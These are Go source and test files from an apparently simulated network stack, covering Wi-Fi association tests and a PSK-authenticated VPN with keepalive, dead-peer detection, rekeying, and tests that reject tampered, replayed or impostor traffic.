	w.k.RunFor(time500ms())
	if dataFrames < 10 {
		t.Fatalf("monitor saw %d/10 data frames", dataFrames)
	}
}

func time500ms() sim.Time { return 500 * sim.Millisecond }

func TestClass3FrameTriggersDeauth(t *testing.T) {
	w := newWorld(t, APConfig{}, STAConfig{})
	// Send data before associating.
	inj := NewInjector(w.k, w.m.AddRadio(phy.RadioConfig{Name: "inj", Pos: phy.Position{X: 1, Y: 0}, Channel: 1}), 0)
	inj.Inject(Frame{
		Type: TypeData, ToDS: true,
		Addr1: macAP, Addr2: ethernet.MustParseMAC("02:00:00:00:00:77"), Addr3: macAP,
		Body: EncapsulateLLC(ethernet.TypeIPv4, []byte("early")),
	})
	w.k.RunFor(100 * sim.Millisecond)
	if w.ap.Class3Errors != 1 {
		t.Fatalf("Class3Errors = %d", w.ap.Class3Errors)
	}
}

func TestStateString(t *testing.T) {
	for s, want := range map[STAState]string{
		StateIdle: "idle", StateScanning: "scanning", StateAuthenticating: "authenticating",
		StateAssociating: "associating", StateAssociated: "associated",
	} {
		if s.String() != want {
			t.Errorf("%d.String() = %q", s, s.String())
		}
	}
}
