package vpn

import (
	"testing"

	"repro/internal/inet"
	"repro/internal/sim"
	"repro/internal/tcp"
)

// keepaliveCfg is a fast DPD configuration for tests: probe every second,
// declare the peer dead after 3 s of silence, redial on a 500 ms ladder.
func keepaliveCfg() ClientConfig {
	return ClientConfig{
		PSK: []byte("secret"), Server: vpnServerHP,
		Keepalive:            sim.Second,
		HandshakeTimeout:     2 * sim.Second,
		ReconnectBackoffBase: 500 * sim.Millisecond,
		ReconnectBackoffMax:  4 * sim.Second,
	}
}

// TestKeepaliveProbesFlow proves the liveness loop itself: an idle tunnel
// exchanges sealed probes in both directions and never trips DPD.
func TestKeepaliveProbesFlow(t *testing.T) {
	w := newVPNWorld(t)
	srv, err := NewServerUDP(w.serverIP, w.sudp, ServerConfig{Carrier: CarrierUDP, PSK: []byte("secret")})
	if err != nil {
		t.Fatal(err)
	}
	cfg := keepaliveCfg()
	cfg.Carrier = CarrierUDP
	cli, err := ConnectUDP(w.clientIP, w.cudp, cfg)
	if err != nil {
		t.Fatal(err)
	}
	w.k.RunUntil(20 * sim.Second)
	if !cli.Up() {
		t.Fatal("tunnel not up")
	}
	if cli.KeepalivesSent < 10 {
		t.Errorf("KeepalivesSent = %d over ~20 s of 1 s probes", cli.KeepalivesSent)
	}
	if srv.Keepalives != cli.KeepalivesSent {
		t.Errorf("server answered %d of %d probes", srv.Keepalives, cli.KeepalivesSent)
	}
	if cli.PeerTimeouts != 0 || cli.Reconnects != 0 {
		t.Errorf("healthy peer declared dead: PeerTimeouts=%d Reconnects=%d",
			cli.PeerTimeouts, cli.Reconnects)
	}
}

// TestDeadPeerRecoversUDP is the satellite's core guarantee: the server host
// drops off the network mid-session, the client detects the dead peer via
// DPD, redials with backoff, and once the server is reachable again the
// REKEYED session (fresh nonces, fresh keys, same tunnel address) carries
// traffic that decrypts correctly end to end.
func TestDeadPeerRecoversUDP(t *testing.T) {
	w := newVPNWorld(t)
	srv, err := NewServerUDP(w.serverIP, w.sudp, ServerConfig{Carrier: CarrierUDP, PSK: []byte("secret")})
	if err != nil {
		t.Fatal(err)
	}
	cfg := keepaliveCfg()
	cfg.Carrier = CarrierUDP
	cli, err := ConnectUDP(w.clientIP, w.cudp, cfg)
	if err != nil {
		t.Fatal(err)
	}
	terminalDown := false
	cli.OnDown = func(error) { terminalDown = true }

	w.k.RunUntil(5 * sim.Second)
	if !cli.Up() {
		t.Fatal("tunnel not up before the outage")
	}
	firstIP := cli.TunnelIP()

	// The server host vanishes (unplugged router) for 15 s.
	w.serverIP.SetPartitioned(true)
	w.k.RunUntil(15 * sim.Second)
	if cli.PeerTimeouts == 0 {
		t.Fatal("dead peer never detected")
	}
	if cli.Up() {
		t.Fatal("client still claims Up against a partitioned server")
	}
	if !cli.Healing() {
		t.Fatal("client not in the self-healing loop")
	}
	if cli.Reconnects == 0 {
		t.Fatal("no redial attempted during the outage")
	}
	if terminalDown {
		t.Fatal("self-healing fired OnDown — outage treated as terminal")
	}

	w.k.At(20*sim.Second, func() { w.serverIP.SetPartitioned(false) })
	w.k.RunUntil(60 * sim.Second)
	if !cli.Up() {
		t.Fatalf("tunnel did not recover: PeerTimeouts=%d Reconnects=%d Rekeys=%d",
			cli.PeerTimeouts, cli.Reconnects, cli.Rekeys)
	}
	if cli.Rekeys == 0 || srv.Rekeys == 0 {
		t.Errorf("recovery did not rekey (client %d, server %d)", cli.Rekeys, srv.Rekeys)
	}
	if cli.TunnelIP() != firstIP {
		t.Errorf("tunnel address changed across rekey: %v -> %v (routes would dangle)",
			firstIP, cli.TunnelIP())
	}
	if terminalDown {
		t.Fatal("OnDown fired during a successful self-heal")
	}

	// The rekeyed session must actually decrypt: fetch through the tunnel.
	var got []byte
	l, _ := w.webTCP.Listen(80)
	l.OnAccept = func(c *tcp.Conn) {
		c.OnData = func(b []byte) {
			_ = c.Write(append([]byte("web:"), b...))
			c.Close()
		}
	}
	conn, err := w.ctcp.Dial(inet.MustParseHostPort("10.0.2.2:80"))
	if err != nil {
		t.Fatal(err)
	}
	conn.OnConnect = func() { _ = conn.Write([]byte("post-rekey")) }
	conn.OnData = func(b []byte) { got = append(got, b...) }
	w.k.RunUntil(90 * sim.Second)
	if string(got) != "web:post-rekey" {
		t.Fatalf("through rekeyed tunnel got %q", got)
	}
}

// TestDeadPeerRecoversTCP runs the same outage over the TCP carrier, where
// recovery additionally needs a fresh carrier connection (the old one is
// half-open against a silent host).
func TestDeadPeerRecoversTCP(t *testing.T) {
	w := newVPNWorld(t)
	srv, err := NewServerTCP(w.serverIP, w.stcp, ServerConfig{PSK: []byte("secret")})
	if err != nil {
		t.Fatal(err)
	}
	cli, err := ConnectTCP(w.clientIP, w.ctcp, keepaliveCfg())
	if err != nil {
		t.Fatal(err)
	}
	terminalDown := false
	cli.OnDown = func(error) { terminalDown = true }

	w.k.RunUntil(5 * sim.Second)
	if !cli.Up() {
		t.Fatal("tunnel not up before the outage")
	}
	w.serverIP.SetPartitioned(true)
	w.k.RunUntil(15 * sim.Second)
	if cli.PeerTimeouts == 0 {
		t.Fatal("dead peer never detected over TCP carrier")
	}
	w.k.At(20*sim.Second, func() { w.serverIP.SetPartitioned(false) })
	w.k.RunUntil(90 * sim.Second)
	if !cli.Up() {
		t.Fatalf("TCP-carrier tunnel did not recover: PeerTimeouts=%d Reconnects=%d",
			cli.PeerTimeouts, cli.Reconnects)
	}
	if cli.Rekeys == 0 {
		t.Error("TCP recovery did not rekey")
	}
	if terminalDown {
		t.Fatal("OnDown fired during TCP self-heal")
	}
	if srv.Handshakes < 2 {
		t.Errorf("server Handshakes = %d, want >= 2 (initial + rekey)", srv.Handshakes)
	}
}

// TestKeepaliveDeterministic replays the full outage-and-recovery cycle and
// asserts digest equality: DPD timers, backoff jitter, and rekeying are all
// seeded, so chaos is reproducible.
func TestKeepaliveDeterministic(t *testing.T) {
	run := func() uint64 {
		w := newVPNWorld(t)
		if _, err := NewServerUDP(w.serverIP, w.sudp, ServerConfig{Carrier: CarrierUDP, PSK: []byte("secret")}); err != nil {
			t.Fatal(err)
		}
		cfg := keepaliveCfg()
		cfg.Carrier = CarrierUDP
		if _, err := ConnectUDP(w.clientIP, w.cudp, cfg); err != nil {
			t.Fatal(err)
		}
		w.k.At(5*sim.Second, func() { w.serverIP.SetPartitioned(true) })
		w.k.At(20*sim.Second, func() { w.serverIP.SetPartitioned(false) })
		w.k.RunUntil(60 * sim.Second)
		return w.k.Digest()
	}
	if d1, d2 := run(), run(); d1 != d2 {
		t.Errorf("keepalive recovery digests diverged: %016x != %016x", d1, d2)
	}
}
