package vpn

import (
	"bytes"

	"repro/internal/sim"
)

// This file is the shared peer machinery extracted from the end-to-end
// Client/Server pair so the multi-hop overlay (overlay.go) runs the SAME
// handshake, rekey, keepalive/DPD, and reconnect-backoff logic per hop that
// the tunnel runs end to end:
//
//   - backoff: the seeded exponential redial ladder;
//   - dpd: the dead-peer-detection probe/silence loop;
//   - handshakeState + the initiator helpers: the PSK mutual-auth transcript
//     (idempotent hellos, rekey detection) and directional key installation;
//   - peer: the per-link state machine overlay nodes attach to a carrier.
//
// Client and Server delegate to the first three, so a fix to the handshake
// or the healing logic lands in every hop of a relay chain at once.

// backoff is the exponential reconnect ladder shared by the end-to-end
// client and overlay links: base·2ⁿ capped at max, plus seeded jitter of up
// to base/2 so a fleet of reconnecting peers does not thunder back in
// lockstep.
type backoff struct {
	base, max sim.Time
	n         int
}

// next returns the delay for the coming attempt and advances the ladder.
func (b *backoff) next(rng *sim.RNG) sim.Time {
	d := b.base
	for i := 0; i < b.n && d < b.max; i++ {
		d *= 2
	}
	if d > b.max {
		d = b.max
	}
	if b.n < 20 {
		b.n++
	}
	return d + rng.Jitter(b.base/2)
}

// reset re-arms the ladder after a successful handshake.
func (b *backoff) reset() { b.n = 0 }

// dpd is the dead-peer-detection loop shared by the end-to-end client and
// overlay links: one sealed probe per interval, and the peer is declared
// dead after timeout of authenticated silence. The owner calls bump whenever
// a record authenticates; a zero interval disables the whole loop.
type dpd struct {
	k        *sim.Kernel
	interval sim.Time
	timeout  sim.Time
	lastRx   sim.Time
	timer    *sim.Event

	live    func() bool // still worth probing?
	probe   func()      // send one sealed probe (nil on the passive side)
	expired func()      // peer declared dead
}

// bump records authenticated traffic from the peer.
func (d *dpd) bump() { d.lastRx = d.k.Now() }

// start (re)arms the loop.
func (d *dpd) start() {
	if d.interval <= 0 {
		return
	}
	d.stop()
	d.lastRx = d.k.Now()
	d.tick()
}

// stop cancels the pending probe timer.
func (d *dpd) stop() {
	if d.timer != nil {
		d.timer.Cancel()
	}
}

func (d *dpd) tick() {
	d.timer = d.k.After(d.interval, func() {
		if !d.live() {
			return
		}
		if d.k.Now()-d.lastRx > d.timeout {
			d.expired()
			return
		}
		if d.probe != nil {
			d.probe()
		}
		d.tick()
	})
}

// splitServerHello splits a server-hello body into nonce and transcript
// proof. ok is false for a malformed body (which callers silently ignore, as
// distinct from a proof that fails verification).
func splitServerHello(body []byte) (nonceS, proof []byte, ok bool) {
	if len(body) != nonceLen+32 {
		return nil, nil, false
	}
	return body[:nonceLen], body[nonceLen:], true
}

// initiatorKeys derives and installs the record keys as seen from the side
// that sent the hello.
func initiatorKeys(psk, nonceC, nonceS []byte) (*sealer, *opener) {
	keys := deriveKeys(psk, nonceC, nonceS)
	return newSealer(keys.encC2S, keys.macC2S[:]), newOpener(keys.encS2C, keys.macS2C[:])
}

// responderKeys derives and installs the record keys as seen from the side
// that received the hello.
func responderKeys(psk, nonceC, nonceS []byte) (*sealer, *opener) {
	keys := deriveKeys(psk, nonceC, nonceS)
	return newSealer(keys.encS2C, keys.macS2C[:]), newOpener(keys.encC2S, keys.macC2S[:])
}

// handshakeState is the responder half of the PSK mutual-auth handshake,
// shared by the end-to-end Server and overlay links: idempotent hello
// handling (a retransmitted hello must get the SAME server nonce, or an
// in-flight client auth would verify against the wrong transcript), rekey
// detection (a fresh client nonce kills the old transcript and its record
// keys), and proof verification.
type handshakeState struct {
	nonceC, nonceS []byte
	authed         bool
}

// onHello processes a client-hello body and returns the server-hello
// response. rekeyed reports that an authenticated transcript was replaced by
// a client-initiated rekey; ok is false for a malformed hello.
func (h *handshakeState) onHello(k *sim.Kernel, psk, body []byte) (resp []byte, rekeyed, ok bool) {
	if len(body) != nonceLen {
		return nil, false, false
	}
	if h.nonceS == nil || !bytes.Equal(h.nonceC, body) {
		if h.authed {
			h.authed = false
			rekeyed = true
		}
		h.nonceC = append([]byte(nil), body...)
		h.nonceS = make([]byte, nonceLen)
		k.RNG().Bytes(h.nonceS)
	}
	resp = append(append([]byte(nil), h.nonceS...),
		authTag(psk, "server", h.nonceC, h.nonceS)...)
	return resp, rekeyed, true
}

// authResult classifies a client-auth proof.
type authResult int

const (
	// authIgnore: no transcript to verify against (out-of-order message).
	authIgnore authResult = iota
	// authBad: the proof fails verification — not our peer.
	authBad
	// authDup: a valid proof for an already-authenticated transcript (a
	// carrier retransmit, not a rekey).
	authDup
	// authOK: the transcript is newly authenticated.
	authOK
)

// onAuth verifies the client's transcript proof, marking the transcript
// authenticated on authOK.
func (h *handshakeState) onAuth(psk, body []byte) authResult {
	if h.nonceC == nil || h.nonceS == nil {
		return authIgnore
	}
	if !bytes.Equal(body, authTag(psk, "client", h.nonceC, h.nonceS)) {
		return authBad
	}
	if h.authed {
		return authDup
	}
	h.authed = true
	return authOK
}

// linkConfig parameterises one overlay link's peer state machine. Zero
// values take the same defaults as the end-to-end ClientConfig.
type linkConfig struct {
	psk              []byte
	handshakeTimeout sim.Time
	keepalive        sim.Time
	peerTimeout      sim.Time
	backoffBase      sim.Time
	backoffMax       sim.Time
}

func (c *linkConfig) fill() {
	if c.handshakeTimeout == 0 {
		c.handshakeTimeout = 10 * sim.Second
	}
	if c.keepalive > 0 && c.peerTimeout == 0 {
		c.peerTimeout = 3 * c.keepalive
	}
	if c.backoffBase == 0 {
		c.backoffBase = sim.Second
	}
	if c.backoffMax == 0 {
		c.backoffMax = 30 * sim.Second
	}
}

// peer is one overlay link's state machine: the PSK handshake (as initiator
// on the dialing side, responder on the listening side), sealed record
// transport, keepalive/DPD liveness, and — on the dialing side — the
// seeded-backoff redial loop. It is carrier-agnostic: the owner wires
// send/abort to a transport and feeds received messages into handleMsg.
type peer struct {
	k      *sim.Kernel
	cfg    linkConfig
	dialer bool

	state  clientState
	nonceC []byte         // initiator transcript
	hs     handshakeState // responder transcript
	seal   *sealer
	open   *opener
	rx     frameStream

	send    func(msg []byte)
	abort   func()
	timeout *sim.Event

	ka  dpd
	rng *sim.RNG
	bo  backoff
	// gen is the carrier generation: every replacement carrier bumps it, and
	// callbacks from an orphaned carrier compare against it and do nothing —
	// a stale hop from a pre-failover chain can never deliver.
	gen int

	onUp    func()
	onFrame func(typ byte, body []byte)
	onDown  func() // link died after being up
	redial  func() // dialing side: build a replacement carrier

	// Counters.
	KeepalivesSent uint64
	PeerTimeouts   uint64
	Reconnects     uint64
}

// newPeer builds a link state machine. The owner must set send/abort (and,
// on the dialing side, redial) before the carrier delivers anything.
func newPeer(k *sim.Kernel, cfg linkConfig, dialer bool) *peer {
	cfg.fill()
	p := &peer{k: k, cfg: cfg, dialer: dialer}
	p.bo = backoff{base: cfg.backoffBase, max: cfg.backoffMax}
	p.ka = dpd{
		k: k, interval: cfg.keepalive, timeout: cfg.peerTimeout,
		live:    func() bool { return p.state == stateUp },
		expired: func() { p.peerDead() },
	}
	if dialer {
		// Only the dialing side probes; the responder echoes, and its own
		// DPD expires on probe silence.
		p.ka.probe = func() {
			p.KeepalivesSent++
			p.send(frame(msgKeepalive, p.seal.seal(nil)))
		}
	}
	return p
}

// begin starts the handshake (dialing side, once the carrier connects).
func (p *peer) begin() {
	p.state = stateHello
	p.nonceC = make([]byte, nonceLen)
	p.k.RNG().Bytes(p.nonceC)
	p.send(frame(msgClientHello, p.nonceC))
}

// armTimeout bounds the handshake. On the dialing side expiry drops the
// carrier and re-enters the backoff ladder — an overlay link has no terminal
// failure, the chain may heal arbitrarily later. On the responding side the
// dialer owns recovery, so a half-open inbound link just dies.
func (p *peer) armTimeout() {
	gen := p.gen
	p.timeout = p.k.After(p.cfg.handshakeTimeout, func() {
		if gen != p.gen || p.state == stateUp || p.state == stateDown {
			return
		}
		if !p.dialer {
			p.peerDead()
			return
		}
		p.state = stateIdle
		p.gen++
		if p.abort != nil {
			p.abort()
		}
		p.retry()
	})
}

// retry arms the next redial on the shared backoff ladder.
func (p *peer) retry() {
	if p.state == stateDown || p.redial == nil {
		return
	}
	if p.timeout != nil {
		p.timeout.Cancel()
	}
	if p.rng == nil {
		p.rng = p.k.RNG().Fork()
	}
	d := p.bo.next(p.rng)
	p.k.ScheduleAfter(d, func() {
		if p.state != stateIdle {
			return
		}
		p.Reconnects++
		p.redial()
	})
}

// peerDead tears the link down: DPD expiry, or carrier death under an
// established link. The dialing side re-enters the redial ladder; the
// responding side goes terminal (its dialer owns recovery and will arrive
// on a fresh carrier).
func (p *peer) peerDead() {
	p.PeerTimeouts++
	p.state = stateIdle
	p.ka.stop()
	if p.timeout != nil {
		p.timeout.Cancel()
	}
	p.gen++ // orphan the carrier: its late callbacks are ignored
	if p.abort != nil {
		p.abort()
	}
	if !p.dialer {
		p.state = stateDown
	}
	if p.onDown != nil {
		p.onDown()
	}
	if p.dialer {
		p.retry()
	}
}

// up completes the handshake on either side.
func (p *peer) up() {
	if p.timeout != nil {
		p.timeout.Cancel()
	}
	p.state = stateUp
	p.bo.reset()
	p.ka.start()
	if p.onUp != nil {
		p.onUp()
	}
}

// handleMsg advances the link state machine on one carrier message.
func (p *peer) handleMsg(msg []byte) {
	if len(msg) == 0 {
		return
	}
	typ, body := msg[0], msg[1:]
	switch typ {
	case msgClientHello:
		if p.dialer {
			return
		}
		resp, _, ok := p.hs.onHello(p.k, p.cfg.psk, body)
		if !ok {
			return
		}
		p.send(frame(msgServerHello, resp))
	case msgServerHello:
		if !p.dialer || p.state != stateHello {
			return
		}
		nonceS, proof, ok := splitServerHello(body)
		if !ok {
			return
		}
		if !bytes.Equal(proof, authTag(p.cfg.psk, "server", p.nonceC, nonceS)) {
			// Whatever answered is not our neighbour. Drop the carrier and
			// back off — identical handling to a dead hop.
			p.state = stateIdle
			p.gen++
			if p.abort != nil {
				p.abort()
			}
			p.retry()
			return
		}
		p.seal, p.open = initiatorKeys(p.cfg.psk, p.nonceC, nonceS)
		p.send(frame(msgClientAuth, authTag(p.cfg.psk, "client", p.nonceC, nonceS)))
		// Optimistically up: if the responder rejects the proof it aborts
		// the carrier, which lands us back in the redial ladder.
		p.up()
	case msgClientAuth:
		if p.dialer {
			return
		}
		switch p.hs.onAuth(p.cfg.psk, body) {
		case authOK:
			p.seal, p.open = responderKeys(p.cfg.psk, p.hs.nonceC, p.hs.nonceS)
			p.up()
		case authBad:
			// Unauthenticated dialer: kill the carrier.
			p.state = stateDown
			if p.abort != nil {
				p.abort()
			}
		}
	case msgData:
		if p.state != stateUp {
			return
		}
		plain, err := p.open.open(body)
		if err != nil || len(plain) == 0 {
			return
		}
		p.ka.bump()
		if p.onFrame != nil {
			p.onFrame(plain[0], plain[1:])
		}
	case msgKeepalive:
		if p.state != stateUp || p.open == nil {
			return
		}
		if _, err := p.open.open(body); err != nil {
			return
		}
		p.ka.bump()
		if !p.dialer {
			p.send(frame(msgKeepalive, p.seal.seal(nil)))
		}
	}
}

// sendFrame seals one overlay frame (type + body) onto an established link.
func (p *peer) sendFrame(typ byte, body []byte) {
	if p.state != stateUp {
		return
	}
	buf := make([]byte, 1+len(body))
	buf[0] = typ
	copy(buf[1:], body)
	p.send(frame(msgData, p.seal.seal(buf)))
}

// TamperDetected reports record MAC failures on this link — per-hop
// evidence of on-path modification.
func (p *peer) TamperDetected() uint64 {
	if p.open == nil {
		return 0
	}
	return p.open.MACFailures
}
