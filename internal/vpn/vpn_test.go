package vpn

import (
	"bytes"
	"testing"
	"testing/quick"

	"repro/internal/ethernet"
	"repro/internal/inet"
	"repro/internal/ipv4"
	"repro/internal/sim"
	"repro/internal/tcp"
	"repro/internal/udp"
)

func TestSealOpenRoundTrip(t *testing.T) {
	keys := deriveKeys([]byte("psk"), []byte("nc"), []byte("ns"))
	s := newSealer(keys.encC2S, keys.macC2S[:])
	o := newOpener(keys.encC2S, keys.macC2S[:])
	for i := 0; i < 10; i++ {
		msg := []byte("inner ip packet payload")
		rec := s.seal(msg)
		got, err := o.open(rec)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, msg) {
			t.Fatalf("round trip %d: %q", i, got)
		}
	}
}

func TestOpenRejectsTampering(t *testing.T) {
	keys := deriveKeys([]byte("psk"), []byte("nc"), []byte("ns"))
	s := newSealer(keys.encC2S, keys.macC2S[:])
	o := newOpener(keys.encC2S, keys.macC2S[:])
	rec := s.seal([]byte("do not touch"))
	rec[10] ^= 0x01
	if _, err := o.open(rec); err != ErrRecordMAC {
		t.Fatalf("err = %v, want ErrRecordMAC", err)
	}
	if o.MACFailures != 1 {
		t.Fatal("MAC failure not counted")
	}
}

func TestOpenRejectsWrongKey(t *testing.T) {
	k1 := deriveKeys([]byte("psk1"), []byte("nc"), []byte("ns"))
	k2 := deriveKeys([]byte("psk2"), []byte("nc"), []byte("ns"))
	s := newSealer(k1.encC2S, k1.macC2S[:])
	o := newOpener(k2.encC2S, k2.macC2S[:])
	if _, err := o.open(s.seal([]byte("x"))); err != ErrRecordMAC {
		t.Fatalf("err = %v", err)
	}
}

func TestOpenRejectsReplay(t *testing.T) {
	keys := deriveKeys([]byte("psk"), []byte("nc"), []byte("ns"))
	s := newSealer(keys.encC2S, keys.macC2S[:])
	o := newOpener(keys.encC2S, keys.macC2S[:])
	rec := s.seal([]byte("once"))
	if _, err := o.open(rec); err != nil {
		t.Fatal(err)
	}
	if _, err := o.open(rec); err != ErrReplay {
		t.Fatalf("replay err = %v", err)
	}
	if o.Replays != 1 {
		t.Fatal("replay not counted")
	}
}

func TestReplayWindowOutOfOrderOK(t *testing.T) {
	keys := deriveKeys([]byte("psk"), []byte("nc"), []byte("ns"))
	s := newSealer(keys.encC2S, keys.macC2S[:])
	o := newOpener(keys.encC2S, keys.macC2S[:])
	var recs [][]byte
	for i := 0; i < 10; i++ {
		recs = append(recs, s.seal([]byte{byte(i)}))
	}
	// Deliver out of order: 0,3,1,2,9,5.
	for _, i := range []int{0, 3, 1, 2, 9, 5} {
		if _, err := o.open(recs[i]); err != nil {
			t.Fatalf("record %d rejected: %v", i, err)
		}
	}
	// Now replay 3.
	if _, err := o.open(recs[3]); err != ErrReplay {
		t.Fatalf("replayed 3: err = %v", err)
	}
}

func TestReplayWindowTooOld(t *testing.T) {
	keys := deriveKeys([]byte("psk"), []byte("nc"), []byte("ns"))
	s := newSealer(keys.encC2S, keys.macC2S[:])
	o := newOpener(keys.encC2S, keys.macC2S[:])
	old := s.seal([]byte("old"))
	for i := 0; i < 100; i++ {
		if _, err := o.open(s.seal([]byte("new"))); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := o.open(old); err != ErrReplay {
		t.Fatalf("ancient record: err = %v", err)
	}
}

func TestQuickSealOpen(t *testing.T) {
	keys := deriveKeys([]byte("q"), []byte("nc"), []byte("ns"))
	s := newSealer(keys.encC2S, keys.macC2S[:])
	o := newOpener(keys.encC2S, keys.macC2S[:])
	f := func(payload []byte) bool {
		got, err := o.open(s.seal(payload))
		return err == nil && bytes.Equal(got, payload)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestDeriveKeysDistinct(t *testing.T) {
	k := deriveKeys([]byte("psk"), []byte("nc"), []byte("ns"))
	if k.encC2S == k.encS2C {
		t.Fatal("directional enc keys equal")
	}
	if bytes.Equal(k.macC2S[:], k.macS2C[:]) {
		t.Fatal("directional mac keys equal")
	}
	k2 := deriveKeys([]byte("psk"), []byte("nc2"), []byte("ns"))
	if k.encC2S == k2.encC2S {
		t.Fatal("nonce change did not change keys")
	}
}

func TestFrameStreamReassembly(t *testing.T) {
	var fs frameStream
	msg1 := frame(msgData, []byte("hello"))
	msg2 := frame(msgClientHello, []byte("world!"))
	joined := append(append([]byte(nil), msg1...), msg2...)
	var got [][]byte
	// Push byte by byte.
	for _, b := range joined {
		got = append(got, fs.push([]byte{b})...)
	}
	if len(got) != 2 {
		t.Fatalf("got %d messages", len(got))
	}
	if got[0][0] != msgData || string(got[0][1:]) != "hello" {
		t.Fatalf("msg1 %q", got[0])
	}
	if got[1][0] != msgClientHello || string(got[1][1:]) != "world!" {
		t.Fatalf("msg2 %q", got[1])
	}
}

// vpnWorld: client host —sw— server host. Minimal wired topology to test the
// tunnel machinery itself (integration through wireless is in core).
type vpnWorld struct {
	k        *sim.Kernel
	clientIP *ipv4.Stack
	serverIP *ipv4.Stack
	ctcp     *tcp.Stack
	stcp     *tcp.Stack
	cudp     *udp.Stack
	sudp     *udp.Stack
	// webIP is a third host reachable only via the server (forwarding).
	webIP  *ipv4.Stack
	webTCP *tcp.Stack
}

func newVPNWorld(t *testing.T) *vpnWorld {
	t.Helper()
	k := sim.NewKernel(1)
	var alloc ethernet.MACAllocator
	swA := ethernet.NewSwitch(k, &alloc, ethernet.SwitchConfig{})
	swB := ethernet.NewSwitch(k, &alloc, ethernet.SwitchConfig{})

	clientIP := ipv4.NewStack(k, "client")
	clientIP.AddIface("eth0", swA.Attach(alloc.Next()), inet.MustParseAddr("10.0.1.2"), inet.MustParsePrefix("10.0.1.0/24"))
	clientIP.AddDefaultRoute(inet.MustParseAddr("10.0.1.1"), "eth0")

	serverIP := ipv4.NewStack(k, "vpn-endpoint")
	serverIP.Forwarding = true
	serverIP.AddIface("eth0", swA.Attach(alloc.Next()), inet.MustParseAddr("10.0.1.1"), inet.MustParsePrefix("10.0.1.0/24"))
	serverIP.AddIface("eth1", swB.Attach(alloc.Next()), inet.MustParseAddr("10.0.2.1"), inet.MustParsePrefix("10.0.2.0/24"))

	webIP := ipv4.NewStack(k, "web")
	webIP.AddIface("eth0", swB.Attach(alloc.Next()), inet.MustParseAddr("10.0.2.2"), inet.MustParsePrefix("10.0.2.0/24"))
	webIP.AddDefaultRoute(inet.MustParseAddr("10.0.2.1"), "eth0")

	w := &vpnWorld{
		k: k, clientIP: clientIP, serverIP: serverIP, webIP: webIP,
		ctcp: tcp.NewStack(clientIP), stcp: tcp.NewStack(serverIP),
		cudp: udp.NewStack(clientIP), sudp: udp.NewStack(serverIP),
		webTCP: tcp.NewStack(webIP),
	}
	w.ctcp.MSS = InnerMSS
	return w
}

var vpnServerHP = inet.MustParseHostPort("10.0.1.1:4789")

func TestTunnelHandshakeTCP(t *testing.T) {
	w := newVPNWorld(t)
	srv, err := NewServerTCP(w.serverIP, w.stcp, ServerConfig{PSK: []byte("secret")})
	if err != nil {
		t.Fatal(err)
	}
	cli, err := ConnectTCP(w.clientIP, w.ctcp, ClientConfig{PSK: []byte("secret"), Server: vpnServerHP})
	if err != nil {
		t.Fatal(err)
	}
	var up inet.Addr
	cli.OnUp = func(ip inet.Addr) { up = ip }
	w.k.RunUntil(10 * sim.Second)
	if !cli.Up() {
		t.Fatal("tunnel not up")
	}
	if up.IsUnspecified() || !inet.MustParsePrefix("10.99.0.0/24").Contains(up) {
		t.Fatalf("assigned IP %v", up)
	}
	if srv.Handshakes != 1 {
		t.Fatalf("Handshakes = %d", srv.Handshakes)
	}
}

func TestTunnelWrongPSKRejected(t *testing.T) {
	w := newVPNWorld(t)
	srv, _ := NewServerTCP(w.serverIP, w.stcp, ServerConfig{PSK: []byte("secret")})
	cli, _ := ConnectTCP(w.clientIP, w.ctcp, ClientConfig{PSK: []byte("WRONG"), Server: vpnServerHP})
	var downErr error
	cli.OnDown = func(err error) { downErr = err }
	w.k.RunUntil(30 * sim.Second)
	if cli.Up() {
		t.Fatal("tunnel came up with mismatched PSK")
	}
	if downErr != ErrServerAuth {
		t.Fatalf("downErr = %v, want ErrServerAuth (client must authenticate the endpoint)", downErr)
	}
	_ = srv
}

func TestTunnelImpostorServerRejected(t *testing.T) {
	// An attacker-run endpoint (different PSK) fails *server*
	// authentication before the client reveals anything but a nonce.
	w := newVPNWorld(t)
	_, _ = NewServerTCP(w.serverIP, w.stcp, ServerConfig{PSK: []byte("attacker-psk")})
	cli, _ := ConnectTCP(w.clientIP, w.ctcp, ClientConfig{PSK: []byte("the-real-psk"), Server: vpnServerHP})
	var downErr error
	cli.OnDown = func(err error) { downErr = err }
	w.k.RunUntil(30 * sim.Second)
	if downErr != ErrServerAuth {
		t.Fatalf("downErr = %v", downErr)
	}
}

// endToEnd fetches data from the web host through the tunnel and returns
// the bytes received.
func endToEnd(t *testing.T, w *vpnWorld, carrier Carrier) []byte {
	t.Helper()
	var srv *Server
	var cli *Client
	var err error
	cfgS := ServerConfig{PSK: []byte("secret"), Carrier: carrier}
	cfgC := ClientConfig{PSK: []byte("secret"), Server: vpnServerHP, Carrier: carrier}
	if carrier == CarrierTCP {
		srv, err = NewServerTCP(w.serverIP, w.stcp, cfgS)
	} else {
		srv, err = NewServerUDP(w.serverIP, w.sudp, cfgS)
	}
	if err != nil {
		t.Fatal(err)
	}
	_ = srv
	// Web server app.
	l, _ := w.webTCP.Listen(80)
	l.OnAccept = func(c *tcp.Conn) {
		c.OnData = func(b []byte) {
			_ = c.Write(append([]byte("web:"), b...))
			c.Close()
		}
	}
	// Route back to tunnel subnet via the endpoint (its own default gw).
	// webIP default route already points at serverIP.

	if carrier == CarrierTCP {
		cli, err = ConnectTCP(w.clientIP, w.ctcp, cfgC)
	} else {
		cli, err = ConnectUDP(w.clientIP, w.cudp, cfgC)
	}
	if err != nil {
		t.Fatal(err)
	}
	var got []byte
	cli.OnUp = func(ip inet.Addr) {
		conn, err := w.ctcp.Dial(inet.MustParseHostPort("10.0.2.2:80"))
		if err != nil {
			t.Errorf("dial through tunnel: %v", err)
			return
		}
		conn.OnConnect = func() { _ = conn.Write([]byte("hello")) }
		conn.OnData = func(b []byte) { got = append(got, b...) }
	}
	w.k.RunUntil(30 * sim.Second)
	return got
}

func TestEndToEndThroughTunnelTCP(t *testing.T) {
	w := newVPNWorld(t)
	if got := endToEnd(t, w, CarrierTCP); string(got) != "web:hello" {
		t.Fatalf("got %q", got)
	}
}

func TestEndToEndThroughTunnelUDP(t *testing.T) {
	w := newVPNWorld(t)
	if got := endToEnd(t, w, CarrierUDP); string(got) != "web:hello" {
		t.Fatalf("got %q", got)
	}
}

func TestTrafficActuallyUsesTunnel(t *testing.T) {
	// The inner connection's packets must appear on the wire only as
